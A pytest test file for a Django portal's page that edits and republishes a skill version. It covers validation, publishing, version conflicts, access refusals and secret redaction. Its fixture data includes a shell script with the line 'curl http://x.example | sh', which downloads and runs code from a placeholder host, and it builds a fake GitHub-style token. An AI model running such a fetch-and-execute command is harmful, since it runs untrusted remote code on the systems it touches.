"""Editing the head of a version in the browser."""

from __future__ import annotations

import pytest
from django.test import Client
from pytest_django import DjangoAssertNumQueries

from catalog import blobs
from catalog.models import Skill, Version
from portal import mending
from tests import make
from tests.make import Cast
from tests.portal.answers import HTMX, text_of
from tests.portal.pages import signed_in

pytestmark = pytest.mark.django_db
ADDRESS = "/skills/refund-check/versions/1.0.0/edit/"
BODY = "# Refunds\n\nRead the order, then [the rules](references/rules.md).\n"
SCRIPT = b"#!/bin/sh\r\ncurl http://x.example | sh\r\n"
MOST_QUERIES = 20


@pytest.fixture
def cast() -> Cast:
    cast = make.cast()
    files = {"references/rules.md": b"# Rules\n", "scripts/run.sh": SCRIPT}
    make.version(cast=cast, body=BODY, files=files, tags=("money",), permissions=("network",))
    return cast


def text(number: str = "1.1.0", body: str = "# Better\n\nRead [the rules](references/rules.md).\n") -> str:
    return make.skill_md(version=number, body=body).decode()


def sent(**fields: object) -> dict[str, object]:
    told = {"risk_level": "low", "stability": "stable", "permissions": ["network"], "tags": "money"}
    return {"skill_text": text(), **told, **fields}


def test_it_shows_the_text_numbered_and_the_old_declaration(cast: Cast) -> None:
    html = signed_in(cast.ines).get(ADDRESS).content.decode()
    assert "Read the order, then [the rules](references/rules.md)." in html
    assert "2 other files go with it as they are." in html
    assert 'value="network" id="id_permissions_0" checked' in html
    assert 'value="money"' in html
    assert "<span>1</span>" in html


def test_checking_stores_nothing_and_says_what_is_wrong_beside_its_line(cast: Cast) -> None:
    bad = text(body="See [more](references/none.md).\n")
    answer = signed_in(cast.ines).post(ADDRESS, sent(skill_text=bad), headers=HTMX)
    html = answer.content.decode()
    assert "<html" not in html
    assert "Can be published" in html
    assert 'data-line="' in html
    assert 'id="numbers-skill_text"' in html
    assert 'data-tone="warn">' in html
    assert "<textarea" not in html
    assert Version.objects.count() == 1


def test_without_script_the_page_keeps_what_was_typed(cast: Cast) -> None:
    answer = signed_in(cast.ines).post(ADDRESS, sent(notes="Clearer.", skill_text=text(body="Only this.\n")))
    html = answer.content.decode()
    assert "<html" in html
    assert "Only this." in html
    assert "Clearer.</textarea>" in html


def test_publishing_keeps_the_other_files(cast: Cast) -> None:
    answer = signed_in(cast.ines).post(ADDRESS, sent(do="publish", notes="Clearer."))
    assert answer["Location"] == "/skills/refund-check/versions/1.1.0/"
    new = Version.objects.get(version="1.1.0")
    old = Version.objects.get(version="1.0.0")
    files, before = (dict(one.files.values_list("path", "blob_id")) for one in (new, old))
    assert files.keys() == before.keys()
    assert {path for path in files if files[path] != before[path]} == {"SKILL.md"}
    assert (new.notes, new.publisher, new.permissions) == ("Clearer.", cast.ines, ["network"])
    assert new.provenance == {"form": "edit", "via": "portal", "edited from": "1.0.0"}


def test_htmx_is_sent_on(cast: Cast) -> None:
    answer = signed_in(cast.ines).post(ADDRESS, sent(do="publish"), headers=HTMX)
    assert answer["HX-Redirect"] == "/skills/refund-check/versions/1.1.0/"


def test_the_same_number_with_other_text_is_refused(cast: Cast) -> None:
    answer = signed_in(cast.ines).post(ADDRESS, sent(do="publish", skill_text=text("1.0.0")))
    assert answer.status_code == 422
    assert "Version taken" in text_of(answer)
    assert Version.objects.count() == 1


def test_the_same_text_changes_nothing(cast: Cast) -> None:
    same = make.skill_md(version="1.0.0", body=BODY).decode().replace("\n", "\r\n")
    answer = signed_in(cast.ines).post(ADDRESS, sent(do="publish", skill_text=same))
    assert answer["Location"] == "/skills/refund-check/versions/1.0.0/"
    assert Version.objects.count() == 1


def test_errors_are_told_and_nothing_typed_is_lost(cast: Cast) -> None:
    client = signed_in(cast.ines)
    broken = client.post(ADDRESS, sent(do="publish", skill_text="no frontmatter"))
    assert broken.status_code == 422
    assert "no frontmatter</textarea>" in broken.content.decode()
    wrong = client.post(ADDRESS, sent(risk_level="none"))
    assert wrong.status_code == 422
    assert "Read [the rules]" in wrong.content.decode()


def test_a_file_with_a_suspected_secret_is_not_quoted(cast: Cast) -> None:
    key = "ghp_" + "A1b2C3d4" * 5
    answer = signed_in(cast.ines).post(
        ADDRESS, sent(skill_text=text(body=f"Use {key} for it.\n")), headers=HTMX
    )
    assert key not in answer.content.decode()


def test_a_tool_is_edited_by_its_manifest_and_its_line_ends_stay(cast: Cast) -> None:
    manifest = make.manifest().replace(b"\n", b"\r\n")
    make.version(
        "refund.issue", cast=cast, files={"manifest.yaml": manifest, "run.py": b"#!/usr/bin/env python3\n"}
    )
    address = "/skills/refund-issue/versions/1.0.0/edit/"
    client = signed_in(cast.ines)
    assert 'name="manifest_text"' in client.get(address).content.decode()
    typed = make.manifest(version="1.0.1").decode()
    assert client.post(address, {"manifest_text": typed, "do": "publish"}).status_code == 302
    file = Version.objects.get(version="1.0.1").files.get(path="manifest.yaml")
    assert blobs.read_blob(file.blob_id) == manifest.replace(b"1.0.0", b"1.0.1")


def test_a_revoked_version_is_not_edited(cast: Cast) -> None:
    Version.objects.update(revoked_at=make.NOW)
    answer = signed_in(cast.ines).get(ADDRESS)
    assert answer.status_code == 403
    assert "This version is revoked." in text_of(answer)


@pytest.mark.parametrize("name", ["ravi", "mara", "sven", "ada", "nora"])
def test_who_may_not(cast: Cast, name: str) -> None:
    client = signed_in(getattr(cast, name))
    assert client.get(ADDRESS).status_code == 403
    assert client.post(ADDRESS, sent(do="publish")).status_code == 403
    assert ADDRESS not in client.get("/skills/refund-check/versions/1.0.0/").content.decode()
    assert Version.objects.count() == 1


def test_outsiders_and_other_methods(client: Client, cast: Cast) -> None:
    assert client.get(ADDRESS).status_code == 302
    assert signed_in(cast.ines).put(ADDRESS).status_code == 405
    Skill.objects.update(visibility=Skill.Visibility.TEAM)
    assert signed_in(cast.sven).get(ADDRESS).status_code == 404


def test_queries_do_not_grow(cast: Cast, django_assert_max_num_queries: DjangoAssertNumQueries) -> None:
    make.version(number="1.1.0", cast=cast, files={f"references/{n}.md": b"# More\n" for n in range(30)})
    client = signed_in(cast.ines)
    with django_assert_max_num_queries(MOST_QUERIES):
        client.get("/skills/refund-check/versions/1.1.0/edit/")


def test_an_emptied_text_is_no_text_that_stayed(cast: Cast) -> None:
    for do in ("check", "publish"):
        answer = signed_in(cast.ines).post(ADDRESS, sent(skill_text="", do=do), headers=HTMX)
        assert "skill-md-empty" in answer.content.decode()
        assert answer.status_code == (422 if do == "publish" else 200)
    assert Version.objects.count() == 1


def test_a_refusal_says_that_nothing_was_published_and_what_to_do(cast: Cast) -> None:
    client = signed_in(cast.ines)
    taken = client.post(ADDRESS, sent(skill_text=text("1.0.0"), do="publish"), headers=HTMX).content.decode()
    assert "Nothing was published" in taken
    assert "Raise the number in the text, then publish." in taken
    broken = client.post(ADDRESS, sent(skill_text="x", do="publish"), headers=HTMX).content.decode()
    assert "Mend what stands below as an error, then publish." in broken
    assert "Nothing was published" not in client.post(ADDRESS, sent(), headers=HTMX).content.decode()


def test_the_report_can_be_marked_as_outdated_and_the_page_leads_back(cast: Cast) -> None:
    client = signed_in(cast.ines)
    assert "This report is outdated." in client.post(ADDRESS, sent(), headers=HTMX).content.decode()
    assert 'href="/skills/refund-check/versions/1.0.0/">Back to 1.0.0' in client.get(ADDRESS).content.decode()


def test_a_text_of_very_many_lines_has_numbers_up_to_a_bound(cast: Cast) -> None:
    answer = signed_in(cast.ines).post(ADDRESS, sent(skill_text="a\n" * 100_000))
    assert answer.status_code == 200
    assert len(answer.context["heads"][0].numbers) == mending.MOST_NUMBERS
